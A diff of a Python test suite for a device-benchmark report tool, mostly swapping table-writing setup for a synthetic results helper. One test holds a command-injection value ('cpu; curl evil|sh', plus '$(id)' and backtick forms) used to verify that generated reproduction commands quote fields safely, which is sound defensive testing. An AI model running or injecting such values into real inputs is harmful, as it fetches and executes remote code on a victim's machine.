@@ -6,7 +6,6 @@ from pathlib import Path
 
 import synthetic
 import yaml
-from report_page import ROOT
 
 from whichdevice.cells import Run, parse_run
 from whichdevice.config.load import load_study
@@ -16,7 +15,6 @@ from whichdevice.report.advice import uncompared
 from whichdevice.report.cells import Links, cell_table, machine_cards, reproductions
 from whichdevice.report.verdict import answer_sentences, board
 from whichdevice.results import StudyResults
-from whichdevice.tables.make import write_tables
 
 BOTH = {"cpu": Device(kind="cpu"), "gpu": Device(kind="gpu")}
 REHEARSED = {"cpu": Device(kind="cpu"), "rehearsal": Device(kind="cpu", replicas=8)}
@@ -30,8 +28,7 @@ def results(
 ) -> StudyResults:
     study = synthetic.small_study(devices=devices, workloads={"mnist_cnn": Workload(batch_size=list(sizes))})
     config, paths = synthetic.write_study(study, folder, artefacts=False, change=change)
-    write_tables(config, paths, ROOT / "config/published.csv", folder / "tables")
-    return StudyResults(config, folder / "tables")
+    return synthetic.Results(config, paths)
 
 
 def verdicts(study: StudyResults, size: int = 256) -> dict[str, str]:
@@ -101,8 +98,7 @@ def test_the_command_selects_this_cell_and_no_other(tmp_path: Path) -> None:
     workload = Workload(batch_size=[8, 16], loop=["epoch", "fit"], fraction=[0.5, 1.0], sequence_length=[100, 168])
     made = synthetic.small_study(workloads={"weather_gru": workload})
     config, paths = synthetic.write_study(made, tmp_path, artefacts=False)
-    write_tables(config, paths, ROOT / "config/published.csv", tmp_path / "tables")
-    study = StudyResults(config, tmp_path / "tables")
+    study = synthetic.Results(config, paths)
     cards = {key: card.number for key, card in machine_cards(study.runs).items()}
     found = reproductions(study, tmp_path / "report.html", cards)
     assert len(found) == len(study.summary)
@@ -123,8 +119,7 @@ def test_what_a_record_says_is_one_word_of_a_command(tmp_path: Path) -> None:
     evil = "cpu; curl evil|sh"
     made = synthetic.small_study()
     config, paths = synthetic.write_study(made, tmp_path, artefacts=False)
-    write_tables(config, paths, ROOT / "config/published.csv", tmp_path / "tables")
-    study = StudyResults(config, tmp_path / "tables")
+    study = synthetic.Results(config, paths)
     runs = study.runs.copy()
     study.runs = runs.assign(kind=evil, device=evil, run=evil + "/$(id)/`id`/r1")
     for card in reproductions(study, tmp_path / "report.html", {}).values():
@@ -137,8 +132,7 @@ def test_what_a_record_says_is_one_word_of_a_command(tmp_path: Path) -> None:
 def test_a_run_of_an_unknown_kind_is_measured_again_by_its_cell_alone(tmp_path: Path) -> None:
     made = synthetic.small_study()
     config, paths = synthetic.write_study(made, tmp_path, artefacts=False)
-    write_tables(config, paths, ROOT / "config/published.csv", tmp_path / "tables")
-    study = StudyResults(config, tmp_path / "tables")
+    study = synthetic.Results(config, paths)
     study.runs = study.runs.assign(kind=None)
     for card in reproductions(study, tmp_path / "report.html", {}).values():
         assert card["workflow"].startswith("snakemake --cores 1 all --configfile")
